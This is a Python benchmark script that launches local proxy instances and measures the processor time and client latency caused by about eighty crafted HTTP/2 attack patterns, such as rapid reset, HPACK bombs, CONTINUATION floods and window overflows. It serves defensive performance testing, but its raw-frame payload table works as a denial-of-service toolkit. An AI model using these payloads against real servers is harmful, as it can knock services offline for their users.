#!/usr/bin/env python3
"""Measures the cost of HTTP/2 attacks for a proxy: processor time per megabyte that an attacker sends.

    bench/h2_attacks.py PROXY [PROXY...] [--megabytes 2] [--rounds 3] [--only NAME[,NAME...]] [--rows]
    bench/h2_attacks.py PROXY [PROXY...] --quiet [--seconds 3] [--attackers 4] [--yielding 19] [--only NAME] [--rows]

Every proxy runs the same configuration with one thread on the first processor. It answers by itself, except in attacks "to a server",
whose server never responds. An attacker on the second processor sends the frames of an attack as fast as they are accepted, and opens another
connection whenever one ends. Prints for each attack: milliseconds of processor time (user and system) per megabyte sent by the
attacker, as the median of all rounds, in which the proxies alternate; the number of connections; and the ratio of the
first proxy to the last one. `--rows` prints rows of a Markdown table.

`--quiet` measures the effect on other clients: a quiet client sends a request every two milliseconds on an HTTP/1 connection; attackers, whose
priority is lower by `--yielding`, share the second processor with it. Prints for each attack: the quiet client's median and 99th
percentile, in milliseconds, next to those without an attack; processor time of the proxy per second; the largest increase of memory,
in total and per attacker; and the pieces that attackers sent. On a machine with other load, run it by
`nice -n -20 ... --yielding 10`.

Names in `--only` are separated by commas, or by semicolons where one has a comma itself (`"trailers, to a server;trailers"`).

Linux only; nothing is changed outside of a temporary folder.
"""

import argparse
import multiprocessing
import os
import re
import select
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time

TICK = os.sysconf("SC_CLK_TCK")

CONFIG = """global
    nbthread 1
    maxconn 1000
defaults
    mode http
    timeout connect 5s
    timeout client 10s
    timeout server 10s
    timeout http-request 10s
frontend f
    bind 127.0.0.1:{port}
    use_backend servers if {{ path -m beg /s }}
    http-request return status 200 content-type text/plain string {payload} unless {{ path -m beg /s }}
backend servers
    server s 127.0.0.1:{server}
"""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, POST = b"\x82\x86\x84\x01\x01a", b"\x83\x86\x84\x01\x01a"
# The same with the path `/s`: the next bytes have to begin with a field.
GET_SERVER, POST_SERVER = b"\x82\x86\x04\x02/s\x01\x01a", b"\x83\x86\x04\x02/s\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value):
    return struct.pack(">I", value)


# Minimum processor time in seconds for a meaningful measurement.
LEAST = 0.03

SETTINGS = frame(4, 0, 0)
ASKED = b"all read"
NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))


def streams(make, first=SETTINGS, count=3000):
    return [PREFACE + first] + [make(2 * index + 1) for index in range(count)]


def flood(piece, open_stream=True, count=3000, head=POST, flags=4):
    opened = frame(1, flags, 1, head) if open_stream else b""
    return [PREFACE + SETTINGS + opened] + [piece * 20] * count


def get(stream, block=GET):
    return frame(1, 5, stream, block)


def post(stream, block=POST):
    return frame(1, 4, stream, block)


def pieces_of(stream, block, count):
    """Returns a head as a HEADERS frame with its first byte and `count` CONTINUATION frames."""
    size = -(-(len(block) - 1) // count)
    parts = [block[1 + at * size : 1 + (at + 1) * size] for at in range(count)]
    pieces = [frame(9, 4 if at == count - 1 else 0, stream, part) for at, part in enumerate(parts)]
    return frame(1, 1, stream, block[:1]) + b"".join(pieces)


WINDOWS = b"".join(struct.pack(">HI", 4, 65535 - index % 2) for index in range(170))
LONG = b"\x00\x01b\x7f\x81\x03" + b"v" * 512

# The pieces that an attacker sends on a connection. Then it waits for the end of the connection, and opens another.
ATTACKS = {
    # Connection frames.
    "settings": flood(SETTINGS),
    "settings, 1 unknown": flood(frame(4, 0, 0, struct.pack(">HI", 0x99, 1))),
    "settings, 170 windows": flood(frame(4, 0, 0, WINDOWS), count=200),
    "settings acknowledged": flood(frame(4, 1, 0)),
    "pings": flood(frame(6, 0, 0, bytes(8))),
    "pings answered": flood(frame(6, 1, 0, bytes(8))),
    "windows": flood(frame(8, 0, 0, number(1)) + frame(8, 0, 1, number(1))),
    "windows of the connection": flood(frame(8, 0, 0, number(1))),
    "windows of a stream": flood(frame(8, 0, 1, number(1))),
    "windows of a closed stream": [PREFACE + SETTINGS + get(1)] + [frame(8, 0, 1, number(1)) * 20] * 3000,
    "departures": flood(frame(7, 0, 0, bytes(8))),
    "departures, with text": flood(frame(7, 0, 0, bytes(8) + b"x" * 100)),
    "unknown frames": flood(frame(0xFA, 0, 0, b"x")),
    "unknown frames of a stream": flood(frame(0xFA, 0, 1)),
    "priority updates": flood(frame(16, 0, 0, number(3) + b"u=1")),
    "origin frames": flood(frame(12, 0, 0)),
    # Stream frames.
    "priorities": flood(frame(2, 0, 1, bytes(5))),
    "priorities of idle streams": flood(frame(2, 0, 9, bytes(5))),
    "empty payload": flood(frame(0, 0, 1)),
    "payload byte by byte": flood(frame(0, 0, 1, b"x")),
    "padding": flood(frame(0, 8, 1, b"\xff" + bytes(255))),
    "resets of a closed stream": [PREFACE + SETTINGS + get(1)] + [frame(3, 0, 1, number(8)) * 20] * 3000,
    # Requests that are cancelled, or that the proxy has to reset.
    "rapid reset": streams(lambda stream: get(stream) + frame(3, 0, stream, number(8))),
    "rapid reset, to a server": streams(lambda stream: get(stream, GET_SERVER) + frame(3, 0, stream, number(8))),
    "rapid reset of posts, to a server": streams(
        lambda stream: post(stream, POST_SERVER) + frame(0, 0, stream, b"x" * 10) + frame(3, 0, stream, number(8))
    ),
    "window of 0": streams(lambda stream: get(stream) + frame(8, 0, stream, bytes(4))),
    "window of 0, to a server": streams(lambda stream: get(stream, GET_SERVER) + frame(8, 0, stream, bytes(4))),
    "window overflow": streams(lambda stream: post(stream) + frame(8, 0, stream, number(0x7FFFFFFF))),
    "window overflow, to a server": streams(
        lambda stream: get(stream, GET_SERVER) + frame(8, 0, stream, number(0x7FFFFFFF))
    ),
    "priority on itself": streams(lambda stream: post(stream) + frame(2, 0, stream, number(stream) + b"\0")),
    "priority on itself, one stream": flood(frame(2, 0, 1, number(1) + b"\0")),
    "priority of 4 bytes": streams(lambda stream: post(stream) + frame(2, 0, stream, bytes(4))),
    "head that depends on itself": streams(lambda stream: frame(1, 0x25, stream, number(stream) + b"\0" + GET)),
    "payload after the end": streams(lambda stream: get(stream) + frame(0, 0, stream, b"x")),
    "payload after the end, to a server": streams(
        lambda stream: get(stream, GET_SERVER) + frame(0, 0, stream, b"x")
    ),
    "head after the end": streams(lambda stream: get(stream) + get(stream)),
    "head after the end, to a server": streams(lambda stream: get(stream, GET_SERVER) + get(stream, GET_SERVER)),
    "lengths that lie": streams(lambda stream: post(stream, POST + b"\x0f\x0d\x011") + frame(0, 1, stream, b"ab")),
    "lengths that lie, to a server": streams(
        lambda stream: post(stream, POST_SERVER + b"\x0f\x0d\x011") + frame(0, 1, stream, b"ab")
    ),
    "lengths too short": streams(lambda stream: post(stream, POST + b"\x0f\x0d\x013") + frame(0, 1, stream, b"ab")),
    "payload beyond the window": streams(
        lambda stream: post(stream, POST_SERVER) + frame(0, 0, stream, bytes(16384)) * 5, count=200
    ),
    "streams without an end": streams(post),
    "streams without an end, to a server": streams(lambda stream: post(stream, POST_SERVER)),
    "trailers": streams(lambda stream: post(stream) + frame(1, 5, stream, b"\x00\x01b\x01c")),
    "trailers, to a server": streams(lambda stream: post(stream, POST_SERVER) + frame(1, 5, stream, b"\x00\x01b\x01c")),
    "trailers that end nothing": streams(lambda stream: post(stream) + frame(1, 4, stream, b"\x00\x01b\x01c")),
    "trailers with a pseudo field": streams(lambda stream: post(stream) + frame(1, 5, stream, b"\x84")),
    # Heads.
    "requests": streams(get),
    "posts that end": streams(lambda stream: post(stream) + frame(0, 1, stream)),
    "path with a blank": streams(lambda stream: get(stream, b"\x82\x86\x04\x03/ b\x01\x01a")),
    "upper case": streams(lambda stream: get(stream, GET + b"\x00\x01B\x01c")),
    "lines in a field": streams(lambda stream: get(stream, GET + b"\x00\x01a\x07b\r\nc: d")),
    "connection field": streams(lambda stream: get(stream, GET + b"\x00\x0aconnection\x05close")),
    "no path": streams(lambda stream: get(stream, b"\x82\x86\x01\x01a")),
    "two paths": streams(lambda stream: get(stream, GET + b"\x84")),
    "no fields": streams(lambda stream: get(stream, b"")),
    "method with a blank": streams(lambda stream: get(stream, b"\x02\x03G T\x86\x84\x01\x01a")),
    "two lengths": streams(lambda stream: post(stream, POST + b"\x0f\x0d\x011\x0f\x0d\x012")),
    "heads of an even number": [PREFACE + SETTINGS] + [get(2)] * 3000,
    "continuations": [PREFACE + SETTINGS + frame(1, 1, 1, GET)] + [frame(9, 0, 1)] * 3000,
    "continuations, 1 byte": [PREFACE + SETTINGS + frame(1, 1, 1, GET)] + [frame(9, 0, 1, b"\x84")] * 3000,
    "heads in 2 continuations": streams(lambda stream: pieces_of(stream, GET, 2)),
    "heads in 6 continuations": streams(lambda stream: pieces_of(stream, GET, 6)),
    "heads in 30 continuations": streams(lambda stream: pieces_of(stream, GET + b"\x00\x01b\x12" + b"v" * 18, 30)),
    "hpack bombs": streams(lambda stream: get(stream, GET + (b"\x40\x01a\x00" if stream == 1 else b"") + b"\xbe" * 4000), count=300),
    "hpack bombs, no window": streams(
        lambda stream: get(stream, GET + (b"\x40\x01a\x00" if stream == 1 else b"") + b"\xbe" * 4000), NO_WINDOW, 300
    ),
    "table turned over": streams(
        lambda stream: get(stream, GET + b"".join(b"\x40\x01a\x7f\x81\x0f" + b"x" * 2048 for _ in range(3))), count=600
    ),
    "table sizes": streams(lambda stream: get(stream, b"\x20\x3f\xe1\x1f" + GET)),
    "long fields": streams(lambda stream: get(stream, GET + LONG * 20), count=300),
    "many fields": streams(lambda stream: get(stream, GET + b"\x00\x01b\x01c" * 90), count=1000),
    "many cookies": streams(lambda stream: get(stream, GET + b"\x0f\x11\x03a=b" * 90), count=1000),
    "requests, no window": streams(get, NO_WINDOW),
    # Frames that end a connection at once.
    "broken strings": streams(lambda stream: get(stream, GET + b"\x00\x81\xff\x81\xff"), count=1),
    "settings of 5 bytes": flood(frame(4, 0, 0, bytes(5)), count=100),
    "promises": flood(frame(5, 4, 1, number(2) + GET), count=100),
    "payload of stream 0": flood(frame(0, 0, 0, b"x"), count=100),
    "frames too large": flood(frame(0, 0, 1, bytes(20000)), count=3),
    "windows of 0": flood(frame(8, 0, 0, bytes(4)), count=100),
    "broken prefaces": [PREFACE[:-2] + b"xx"],
    "connections alone": [PREFACE + SETTINGS],
}


def free_ports(count):
    sockets = [socket.socket() for _ in range(count)]
    for one in sockets:
        one.bind(("127.0.0.1", 0))
    ports = [one.getsockname()[1] for one in sockets]
    for one in sockets:
        one.close()
    return ports


def cpu(pid):
    """Returns the processor time of the threads of a process in seconds, by /proc/PID/task/TID/schedstat, which counts nanoseconds."""
    spent = 0
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            spent += int(open(f"/proc/{pid}/task/{task}/schedstat").read().split()[0])
        except OSError:
            pass
    return spent / 1e9


def memory(pid):
    """Returns the resident memory of a process, in bytes."""
    return int(re.search(r"VmRSS:\s+(\d+)", open(f"/proc/{pid}/status").read())[1]) * 1024


def wait_for(port):
    for _ in range(500):
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except OSError:
            time.sleep(0.02)
    sys.exit(f"nothing listens on port {port}")


def silent_server(port):
    """Accepts connections, reads their data, and never responds."""
    listener = socket.create_server(("127.0.0.1", port), backlog=1000)
    poller, connections = select.poll(), {}
    poller.register(listener, select.POLLIN)
    while True:
        for descriptor, _ in poller.poll():
            if descriptor == listener.fileno():
                connection = listener.accept()[0]
                connections[connection.fileno()] = connection
                poller.register(connection, select.POLLIN)
                continue
            try:
                if connections[descriptor].recv(65536):
                    continue
            except OSError:
                pass
            poller.unregister(descriptor)
            connections.pop(descriptor).close()


def send_all(port, data, most):
    """Sends at most `most` bytes of `data` and then a PING, on a new connection, until the PING is acknowledged or the connection
    ends. Returns the number of bytes accepted."""
    sent, data = 0, bytes(data[:most]) + frame(6, 0, 0, ASKED)
    try:
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.setblocking(False)
            poller = select.poll()
            poller.register(connection, select.POLLIN | select.POLLOUT)
            tail = b""
            while True:
                # A proxy that no longer reads has no more work.
                events = poller.poll(300)
                if not events or events[0][1] & (select.POLLERR | select.POLLHUP):
                    break
                if events[0][1] & select.POLLIN:
                    got = connection.recv(1 << 18)
                    tail += got
                    if not got or ASKED in tail:
                        break
                    tail = tail[-len(ASKED) :]
                if sent < len(data) and events[0][1] & select.POLLOUT:
                    sent += connection.send(data[sent : sent + 65536])
                    if sent == len(data):
                        poller.modify(connection, select.POLLIN)
    except OSError:
        pass
    return sent


def cost(process, port, pieces, options):
    """Returns milliseconds of processor time per megabyte, and the number of connections."""
    data, most = b"".join(pieces), options.megabytes * 1e6
    data = memoryview(data)
    before, sent, connections = cpu(process.pid), 0, 0
    end = time.monotonic() + options.longest
    # Cheap attacks are repeated until their cost exceeds the noise of the system.
    while (sent < most or cpu(process.pid) - before < LEAST) and time.monotonic() < end:
        sent += send_all(port, data, max(int(most - sent), int(options.megabytes * 5e5)))
        connections += 1
    time.sleep(0.05)
    megabytes = max(sent, 1) / 1e6
    return (cpu(process.pid) - before) * 1e3 / megabytes, connections / megabytes


def attack(port, pieces, counted, seconds, yielding):
    os.nice(yielding)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as connection:
                connection.settimeout(0.5)
                for index in range(0, len(pieces), 20):
                    connection.sendall(b"".join(pieces[index : index + 20]))
                    counted.value += min(20, len(pieces) - index)
                    connection.setblocking(False)
                    try:
                        while connection.recv(65536):
                            pass
                        break
                    except BlockingIOError:
                        pass
                    connection.settimeout(0.5)
                    if time.monotonic() > end:
                        break
                else:
                    connection.shutdown(socket.SHUT_WR)
                    while connection.recv(65536):
                        pass
        except OSError:
            pass


def quiet(port, seconds, look):
    """Returns the durations of requests, in milliseconds. Samples the proxy periodically."""
    times, end = [], time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.settimeout(10)
        while time.monotonic() < end:
            begin = time.perf_counter()
            connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
            got = b""
            while not got.endswith(b"x" * 10):
                got += connection.recv(65536)
            times.append((time.perf_counter() - begin) * 1e3)
            if len(times) % 16 == 0:
                look()
            time.sleep(0.002)
    return statistics.median(times), statistics.quantiles(times, n=100)[98]


def measure(process, port, pieces, options):
    before, resident = cpu(process.pid), memory(process.pid)
    counted = [multiprocessing.Value("Q", 0) for _ in range(options.attackers if pieces else 0)]
    attackers = [
        multiprocessing.Process(target=attack, args=(port, pieces, count, options.seconds + 0.5, options.yielding))
        for count in counted
    ]
    for one in attackers:
        one.start()
    largest = [resident]
    median, high = quiet(port, options.seconds, lambda: largest.append(max(largest.pop(), memory(process.pid))))
    spent, held = (cpu(process.pid) - before) / options.seconds, largest[0] - resident
    for one in attackers:
        one.join()
    return median, high, spent, held, sum(count.value for count in counted)


class Proxy:
    """A proxy that runs with the configuration."""

    def __init__(self, program, folder, server, payload):
        self.program, (self.port,) = program, free_ports(1)
        path = os.path.join(folder, f"proxy{self.port}")
        with open(path, "w") as file:
            file.write(CONFIG.format(port=self.port, server=server, payload=payload))
        command = ["taskset", "-c", "0", program, "-db", "-f", path]
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def __enter__(self):
        wait_for(self.port)
        return self

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait()

    def check(self):
        if self.process.poll() is not None:
            raise SystemExit(f"{self.program} has ended")


def compare_costs(options, chosen, folder, server):
    for name, pieces in chosen.items():
        found = [[] for _ in options.proxies]
        for _ in range(options.rounds):
            for program, costs in zip(options.proxies, found):
                with Proxy(program, folder, server, "x") as proxy:
                    costs.append(cost(proxy.process, proxy.port, pieces, options))
                    proxy.check()
        times = [statistics.median(time for time, _ in costs) for costs in found]
        connections = [statistics.median(count for _, count in costs) for costs in found]
        ratio = times[0] / times[-1]
        if options.rows:
            print(f"| {name} | " + " | ".join(f"{time:.1f}" for time in times) + f" | {ratio:.2f} |", flush=True)
            continue
        shown = ", ".join(f"{time:8.1f} ms ({count:5.0f} connections)" for time, count in zip(times, connections))
        print(f"{name:36} {shown}   {ratio:5.2f}", flush=True)


def show_quiet_client(options, chosen, folder, server):
    for name, pieces in chosen.items():
        if not options.rows:
            print(name)
        for program in options.proxies:
            with Proxy(program, folder, server, "x" * 1000) as proxy:
                calm = measure(proxy.process, proxy.port, None, options)
                median, high, spent, held, count = measure(proxy.process, proxy.port, pieces, options)
                proxy.check()
            each = spent * options.seconds * 1e6 / max(count, 1)
            kept = held / 1024 / options.attackers
            if options.rows:
                shown = f"{median / calm[0]:.1f} | {high / calm[1]:.1f} | {spent * 100:.0f} % | {each:.1f} µs | {kept:.0f} KB"
                print(f"| {name} | {os.path.basename(program)} | {shown} |", flush=True)
                continue
            print(
                f"  {program}: 50 % {median:.2f} ms ({median / calm[0]:.1f}), 99 % {high:.2f} ms"
                f" ({high / calm[1]:.1f}), {spent * 100:.0f} % of a processor, {held / 1024:.0f} KB more,"
                f" {kept:.0f} KB an attacker, {count / options.seconds:.0f} pieces a second, {each:.1f} µs each",
                flush=True,
            )


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("proxies", nargs="+")
    parser.add_argument("--megabytes", type=float, default=2)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--longest", type=float, default=4, help="seconds of one measurement at most")
    parser.add_argument("--quiet", action="store_true")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--attackers", type=int, default=4)
    parser.add_argument("--only")
    parser.add_argument("--yielding", type=int, default=19)
    parser.add_argument("--rows", action="store_true")
    options = parser.parse_args()
    pieces = options.only.split(";") if options.only else list(ATTACKS)
    names = [name for piece in pieces for name in ([piece] if piece in ATTACKS else piece.split(","))]
    chosen = {name: pieces for name, pieces in ATTACKS.items() if name in names}
    os.sched_setaffinity(0, {1})
    (server_port,) = free_ports(1)
    server = multiprocessing.Process(target=silent_server, args=(server_port,), daemon=True)
    server.start()
    wait_for(server_port)
    with tempfile.TemporaryDirectory() as folder:
        (show_quiet_client if options.quiet else compare_costs)(options, chosen, folder, server_port)
    server.terminate()


if __name__ == "__main__":
    main()
